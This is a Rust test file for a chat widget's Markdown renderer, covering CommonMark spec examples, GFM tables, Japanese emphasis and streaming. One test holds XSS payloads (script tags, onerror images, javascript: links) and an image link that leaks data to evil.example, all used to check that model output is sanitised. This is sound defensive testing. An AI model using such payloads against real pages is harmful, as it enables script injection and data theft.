//! The renderer against the CommonMark spec's examples (0.31.2, the sections of the constructs
//! it supports: `spec-examples.json`, extracted from `spec.txt`, CC BY-SA 4.0, John MacFarlane)
//! and the cases a chat answer adds: GFM tables and strikethrough, streaming, unsafe input.

use std::fmt::Write as _;

use super::*;

/// HTML as the spec's reference renderer writes it (tests only: the widget builds DOM nodes).
fn html(blocks: &[Block]) -> String {
    let mut out = String::new();
    for b in blocks {
        block_html(b, false, &mut out);
    }
    out
}

fn esc(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

/// The reference renderer percent-encodes a link's target; the browser does the same to an
/// `href` attribute the widget sets.
fn encode_href(href: &str) -> String {
    let mut out = String::new();
    for b in href.bytes() {
        if b.is_ascii_alphanumeric() || b"-_.!~*'();/?:@&=+$,%#".contains(&b) {
            if b == b'&' {
                out.push_str("&amp;");
            } else {
                out.push(b as char);
            }
        } else {
            let _ = write!(out, "%{b:02X}");
        }
    }
    out
}

fn block_html(b: &Block, tight: bool, out: &mut String) {
    match b {
        Block::Paragraph(i) if tight => out.push_str(&inline_html(i)),
        Block::Paragraph(i) => {
            let _ = writeln!(out, "<p>{}</p>", inline_html(i));
        }
        Block::Heading(l, i) => {
            let _ = writeln!(out, "<h{l}>{}</h{l}>", inline_html(i));
        }
        Block::Code { lang, text } => {
            match lang {
                Some(l) => {
                    let _ = write!(out, "<pre><code class=\"language-{}\">", esc(l));
                }
                None => out.push_str("<pre><code>"),
            }
            let _ = writeln!(out, "{}</code></pre>", esc(text));
        }
        Block::Quote(inner) => {
            out.push_str("<blockquote>\n");
            for b in inner {
                block_html(b, false, out);
            }
            out.push_str("</blockquote>\n");
        }
        Block::List {
            start,
            loose,
            items,
        } => {
            let tag = match start {
                Some(1) => "ol".to_owned(),
                Some(n) => format!("ol start=\"{n}\""),
                None => "ul".to_owned(),
            };
            let _ = writeln!(out, "<{tag}>");
            for item in items {
                out.push_str("<li>");
                for b in item {
                    let bare = !loose && matches!(b, Block::Paragraph(_));
                    if !bare && !out.ends_with('\n') {
                        out.push('\n');
                    }
                    block_html(b, !loose, out);
                }
                out.push_str("</li>\n");
            }
            let _ = writeln!(out, "</{}>", if start.is_some() { "ol" } else { "ul" });
        }
        Block::Table { .. } => out.push_str("<table/>\n"),
        Block::Rule => out.push_str("<hr />\n"),
    }
}

fn inline_html(nodes: &[Inline]) -> String {
    let mut out = String::new();
    for n in nodes {
        match n {
            Inline::Text(t) => out.push_str(&esc(t)),
            Inline::Code(t) => {
                let _ = write!(out, "<code>{}</code>", esc(t));
            }
            Inline::Em(c) => {
                let _ = write!(out, "<em>{}</em>", inline_html(c));
            }
            Inline::Strong(c) => {
                let _ = write!(out, "<strong>{}</strong>", inline_html(c));
            }
            Inline::Strike(c) => {
                let _ = write!(out, "<del>{}</del>", inline_html(c));
            }
            Inline::Link { href, children } => {
                let _ = write!(
                    out,
                    "<a href=\"{}\">{}</a>",
                    encode_href(href),
                    inline_html(children)
                );
            }
            Inline::Break => out.push_str("<br />\n"),
            Inline::SoftBreak => out.push('\n'),
        }
    }
    out
}

/// Examples whose spec output uses what the widget leaves out on purpose: raw HTML (shown as
/// text), images (alt text only), reference links and definitions, link titles (not shown),
/// and targets other than http / https / mailto (plain text).
fn left_out(markdown: &str, html: &str) -> bool {
    html.contains("<img")
        || html.contains(" title=")
        || markdown.contains("]:")
        || markdown.contains("][")
        || (markdown.contains('<') && !html.contains("&lt;") && !html.contains("<a href"))
        || html.contains("<a href=\"")
            && !html.contains("<a href=\"http")
            && !html.contains("<a href=\"mailto:")
        || markdown.contains("[foo]\n")
        || markdown.contains("[bar]\n")
}

/// Examples that differ on purpose: named entities beyond a small table stay as written
/// (#25); raw HTML is text (#496); a link that is not http, https or mailto is its words (#503);
/// bare URLs link, as in GFM (#610, #613).
const DIFFER_ON_PURPOSE: [u64; 5] = [25, 496, 503, 610, 613];

#[test]
fn commonmark_spec_examples_of_the_supported_constructs() {
    let examples: serde_json::Value =
        serde_json::from_str(include_str!("spec-examples.json")).expect("the examples");
    let mut passed = 0;
    let mut skipped = 0;
    let mut failed = Vec::new();
    for e in examples.as_array().expect("a list") {
        let md = e["markdown"].as_str().expect("markdown");
        let want = e["html"].as_str().expect("html");
        if left_out(md, want) || DIFFER_ON_PURPOSE.contains(&e["n"].as_u64().expect("n")) {
            skipped += 1;
            continue;
        }
        let got = html(&parse(md));
        if got == want {
            passed += 1;
        } else {
            failed.push(format!(
                "#{} ({}): {md:?}\n  want {want:?}\n  got  {got:?}",
                e["n"], e["section"]
            ));
        }
    }
    eprintln!(
        "{passed} passed, {skipped} left out, {} differ",
        failed.len()
    );
    for f in &failed {
        eprintln!("{f}");
    }
    assert!(failed.is_empty(), "{} examples differ", failed.len());
}

#[test]
fn gfm_tables_with_alignment_escaped_pipes_and_short_rows() {
    let blocks = parse(
        "| 牛 | 乳量 (kg) | 備考 |\n|:--|--:|:-:|\n| 14番 | 28.5 | a \\| b |\n| 15番 |\n\n後",
    );
    let Block::Table { align, head, rows } = &blocks[0] else {
        panic!("a table: {blocks:?}");
    };
    assert_eq!(align, &[Align::Left, Align::Right, Align::Center]);
    assert_eq!(head[1], vec![Inline::Text("乳量 (kg)".into())]);
    assert_eq!(rows[0][2], vec![Inline::Text("a | b".into())]);
    assert_eq!(
        rows[1].len(),
        3,
        "a short row is padded to the header's width"
    );
    assert_eq!(blocks[1], Block::Paragraph(vec![Inline::Text("後".into())]));
    // A delimiter row whose width differs from the header's is no table.
    assert!(matches!(
        parse("| a | b |\n|---|\n")[0],
        Block::Paragraph(_)
    ));
}

#[test]
fn strikethrough_and_japanese_emphasis() {
    assert_eq!(
        inlines("~~旧~~ **14番**は*要観察*です"),
        vec![
            Inline::Strike(vec![Inline::Text("旧".into())]),
            Inline::Text(" ".into()),
            Inline::Strong(vec![Inline::Text("14番".into())]),
            Inline::Text("は".into()),
            Inline::Em(vec![Inline::Text("要観察".into())]),
            Inline::Text("です".into()),
        ]
    );
}

#[test]
fn model_output_cannot_inject_markup_scripts_or_fetches() {
    let corpus = [
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        "[click](javascript:alert(1))",
        "[click](JAVASCRIPT:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "![secret](https://evil.example/leak?d=herd)",
        "<javascript:alert(1)>",
        "[a](vbscript:msgbox)",
    ];
    for md in corpus {
        let out = html(&parse(md));
        assert!(!out.contains("<img"), "{md}: {out}");
        assert!(!out.contains("<script"), "{md}: {out}");
        assert!(!out.contains("href=\"javascript"), "{md}: {out}");
        assert!(
            !out.to_lowercase().contains("href=\"javascript"),
            "{md}: {out}"
        );
        assert!(!out.contains("href=\"data"), "{md}: {out}");
        assert!(!out.contains("href=\"vbscript"), "{md}: {out}");
        assert!(
            !out.contains("evil.example"),
            "an image's URL is never kept: {out}"
        );
    }
    assert_eq!(
        html(&parse("![牛の写真](https://evil.example/x.png)")),
        "<p>牛の写真</p>\n"
    );
    assert_eq!(
        html(&parse(
            "[mail](mailto:help@example.jp) [web](https://example.jp)"
        )),
        "<p><a href=\"mailto:help@example.jp\">mail</a> <a href=\"https://example.jp\">web</a></p>\n"
    );
}

/// Feeds `text` in slices of `step` bytes (on character boundaries), as deltas arrive;
/// answers the parser, the final blocks so far, and the bytes re-parsed.
fn stream_in(text: &str, step: usize) -> (Stream, Vec<Block>, usize) {
    let mut s = Stream::default();
    let mut end = 0;
    let mut done = Vec::new();
    let mut reparsed = 0;
    while end < text.len() {
        end = (end + step).min(text.len());
        while !text.is_char_boundary(end) {
            end += 1;
        }
        let (finished, _) = s.update(&text[..end], true);
        done.extend(finished);
        reparsed += end - s.done_up_to;
    }
    (s, done, reparsed)
}

#[test]
fn streaming_keeps_final_blocks_and_ends_equal_to_a_whole_parse() {
    let answer = "## 14番の健康\n\n乳量は**28.5 kg**で、平常の*96%*です。\n\n\
        - 活動量: 正常\n- 体温: 38.6℃\n\n\
        | 項目 | 値 |\n|---|--:|\n| 乳量 | 28.5 |\n| 活動 | 102 |\n\n\
        ```text\n注意\n\n空行のあるコード\n```\n\n\
        > 獣医に相談してください。\n\n詳しくは <https://example.jp/cows/14> を。\n";
    for step in [1, 2, 3, 7, 50] {
        let (mut s, mut all, _) = stream_in(answer, step);
        let (finished, tail) = s.update(answer, false);
        assert!(tail.is_empty(), "finished: all is final");
        all.extend(finished);
        assert_eq!(all, parse(answer), "step {step}");
    }
}

#[test]
fn a_delta_costs_the_open_tail_not_the_whole_answer() {
    let para = "牛の体調は良好です。乳量も安定しています。\n\n";
    let answer = para.repeat(200);
    let (_, _, reparsed) = stream_in(&answer, 12);
    let deltas = answer.len() / 12;
    // Each delta re-parses at most the paragraph being written (plus the delta).
    assert!(
        reparsed <= deltas * (para.len() + 12),
        "re-parsed {reparsed} bytes over {deltas} deltas"
    );
}

#[test]
fn an_unfinished_construct_is_closed_while_it_streams() {
    assert_eq!(close_open("**太"), "**太**");
    assert_eq!(close_open("`co"), "`co`");
    assert_eq!(close_open("```rust\nlet a"), "```rust\nlet a\n```");
    assert_eq!(close_open("~~古"), "~~古~~");
    let mut s = Stream::default();
    assert_eq!(
        s.update("これは**重要", true).1,
        vec![Block::Paragraph(vec![
            Inline::Text("これは".into()),
            Inline::Strong(vec![Inline::Text("重要".into())]),
        ])]
    );
    let (finished, tail) = s.update("これは**重要", false);
    assert!(tail.is_empty(), "finished: all is final");
    assert_eq!(
        finished,
        vec![Block::Paragraph(vec![Inline::Text("これは**重要".into())])],
        "once finished, the text is what it is"
    );
}
